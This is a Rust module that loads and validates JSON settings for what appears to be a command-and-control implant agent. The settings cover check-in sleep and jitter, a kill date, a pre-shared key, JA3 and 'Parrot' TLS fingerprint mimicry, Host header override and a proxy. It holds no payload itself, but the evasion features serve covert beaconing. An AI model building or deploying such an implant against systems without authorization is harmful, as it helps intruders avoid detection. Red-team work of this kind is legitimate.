//! Agent options as read from a JSON configuration file.
//!
//! Option names follow the agent's established configuration keys
//! (`Sleep`, `Skew`, `MaxRetry`, ...). Numeric options accept either JSON
//! numbers or strings, so `"MaxRetry": 7` and `"MaxRetry": "7"` are the same.

use std::path::Path;
use std::time::Duration;

use serde::Deserialize;

use crate::agent::messages::humantime_serde;
use crate::agent::{AgentConfig, AuthFailurePolicy, RetrySchedule};
use crate::envelope::PaddingStrategy;
use crate::error::{Error, Result};
use crate::pake::{Psk, AUTH_PACKAGE};
use crate::transport::{
    ConnectionProfile, HttpTransport, Protocol, TlsVerification, Transport, UrlPolicy,
    DEFAULT_USER_AGENT,
};
use crate::REQUEST_TIMEOUT_MS;

/// Agent options.
#[derive(Debug, Clone, Deserialize)]
pub struct Options {
    /// Base check-in interval
    #[serde(rename = "Sleep", default = "default_sleep", with = "humantime_serde")]
    pub sleep: Duration,
    /// Jitter percentage (0-100)
    #[serde(rename = "Skew", default = "default_skew", deserialize_with = "lenient::deserialize")]
    pub skew: u8,
    /// Consecutive failures before giving up
    #[serde(
        rename = "MaxRetry",
        default = "default_max_retry",
        deserialize_with = "lenient::deserialize"
    )]
    pub max_retry: u32,
    /// Unix epoch seconds after which the agent stops; 0 disables
    #[serde(rename = "KillDate", default, deserialize_with = "lenient::deserialize")]
    pub kill_date: i64,
    /// Transport protocol
    #[serde(rename = "Protocol", default = "default_protocol")]
    pub protocol: Protocol,
    /// Candidate server URLs
    #[serde(rename = "URL", deserialize_with = "one_or_many")]
    pub urls: Vec<String>,
    /// Pre-shared secret
    #[serde(rename = "PSK", default)]
    pub psk: Option<Psk>,
    /// Maximum random padding per envelope
    #[serde(rename = "Padding", default, deserialize_with = "lenient::deserialize")]
    pub padding: usize,
    /// Authentication package; only `opaque` is supported
    #[serde(rename = "AuthPackage", default = "default_auth_package")]
    pub auth_package: String,
    /// Explicit JA3 fingerprint
    #[serde(rename = "JA3", default, deserialize_with = "non_empty")]
    pub ja3: Option<String>,
    /// Named fingerprint profile
    #[serde(rename = "Parrot", default, deserialize_with = "non_empty")]
    pub parrot: Option<String>,
    /// HTTP User-Agent
    #[serde(rename = "UserAgent", default = "default_user_agent")]
    pub user_agent: String,
    /// Host header override
    #[serde(rename = "Host", default, deserialize_with = "non_empty")]
    pub host: Option<String>,
    /// Forward proxy URL
    #[serde(rename = "Proxy", default, deserialize_with = "non_empty")]
    pub proxy: Option<String>,
    /// Per-request timeout
    #[serde(rename = "Timeout", default = "default_timeout", with = "humantime_serde")]
    pub timeout: Duration,
    /// Stay on one URL until it fails instead of rotating every request
    #[serde(rename = "Failover", default)]
    pub failover: bool,
    /// Skip server certificate verification
    #[serde(rename = "InsecureTLS", default)]
    pub insecure_tls: bool,
    /// Move to the next URL after an authentication failure
    #[serde(rename = "RotateOnAuthFailure", default)]
    pub rotate_on_auth_failure: bool,
}

fn default_sleep() -> Duration {
    RetrySchedule::default().sleep
}

fn default_skew() -> u8 {
    RetrySchedule::default().skew
}

fn default_max_retry() -> u32 {
    RetrySchedule::default().max_retry
}

fn default_protocol() -> Protocol {
    Protocol::H2
}

fn default_auth_package() -> String {
    AUTH_PACKAGE.to_string()
}

fn default_user_agent() -> String {
    DEFAULT_USER_AGENT.to_string()
}

fn default_timeout() -> Duration {
    Duration::from_millis(REQUEST_TIMEOUT_MS)
}

impl Options {
    /// Parse options from JSON.
    pub fn from_json(json: &str) -> Result<Self> {
        Ok(serde_json::from_str(json)?)
    }

    /// Read options from a JSON file.
    pub fn load(path: impl AsRef<Path>) -> Result<Self> {
        let raw = std::fs::read_to_string(path)?;
        Self::from_json(&raw)
    }

    /// Validate every option.
    pub fn validate(&self) -> Result<()> {
        if !self.auth_package.eq_ignore_ascii_case(AUTH_PACKAGE) {
            return Err(Error::config(format!(
                "unsupported auth package: {}",
                self.auth_package
            )));
        }
        self.secret()?;
        self.schedule()?.validate()?;
        PaddingStrategy::from_max(self.padding).validate()?;
        self.profile().validate()?;
        Ok(())
    }

    /// The pre-shared secret.
    pub fn secret(&self) -> Result<Psk> {
        match &self.psk {
            Some(psk) if !psk.is_empty() => Ok(psk.clone()),
            _ => Err(Error::config("a pre-shared secret is required")),
        }
    }

    /// Check-in schedule.
    pub fn schedule(&self) -> Result<RetrySchedule> {
        Ok(RetrySchedule {
            sleep: self.sleep,
            skew: self.skew,
            max_retry: self.max_retry,
            kill_date: RetrySchedule::kill_date_from_epoch(self.kill_date)?,
        })
    }

    /// Session configuration.
    pub fn agent_config(&self) -> Result<AgentConfig> {
        let config = AgentConfig {
            schedule: self.schedule()?,
            padding: PaddingStrategy::from_max(self.padding),
            auth_failure_policy: if self.rotate_on_auth_failure {
                AuthFailurePolicy::Rotate
            } else {
                AuthFailurePolicy::Retry
            },
            ..Default::default()
        };
        config.validate()?;
        Ok(config)
    }

    /// Connection profile for the transport.
    pub fn profile(&self) -> ConnectionProfile {
        ConnectionProfile {
            urls: self.urls.clone(),
            protocol: self.protocol,
            proxy: self.proxy.clone(),
            ja3: self.ja3.clone(),
            parrot: self.parrot.clone(),
            user_agent: self.user_agent.clone(),
            host: self.host.clone(),
            timeout: self.timeout,
            url_policy: if self.failover {
                UrlPolicy::Failover
            } else {
                UrlPolicy::RoundRobin
            },
            tls_verification: if self.insecure_tls {
                TlsVerification::AcceptAny
            } else {
                TlsVerification::WebPki
            },
        }
    }

    /// Build the transport with the secret installed.
    pub fn transport(&self) -> Result<HttpTransport> {
        self.validate()?;
        let transport = HttpTransport::build(self.profile())?;
        transport.set_secret(self.secret()?);
        Ok(transport)
    }
}

/// Accept a value either natively or as a string to be parsed.
mod lenient {
    use std::fmt::Display;
    use std::str::FromStr;

    use serde::{de, Deserialize, Deserializer};

    #[derive(Deserialize)]
    #[serde(untagged)]
    enum Raw<T> {
        Native(T),
        Text(String),
    }

    pub fn deserialize<'de, D, T>(deserializer: D) -> Result<T, D::Error>
    where
        D: Deserializer<'de>,
        T: FromStr + Deserialize<'de>,
        T::Err: Display,
    {
        match Raw::<T>::deserialize(deserializer)? {
            Raw::Native(value) => Ok(value),
            Raw::Text(text) => text.trim().parse().map_err(de::Error::custom),
        }
    }
}

fn one_or_many<'de, D>(deserializer: D) -> std::result::Result<Vec<String>, D::Error>
where
    D: serde::Deserializer<'de>,
{
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum OneOrMany {
        One(String),
        Many(Vec<String>),
    }

    Ok(match OneOrMany::deserialize(deserializer)? {
        OneOrMany::One(url) => vec![url],
        OneOrMany::Many(urls) => urls,
    })
}

fn non_empty<'de, D>(deserializer: D) -> std::result::Result<Option<String>, D::Error>
where
    D: serde::Deserializer<'de>,
{
    let value = Option::<String>::deserialize(deserializer)?;
    Ok(value.filter(|s| !s.trim().is_empty()))
}
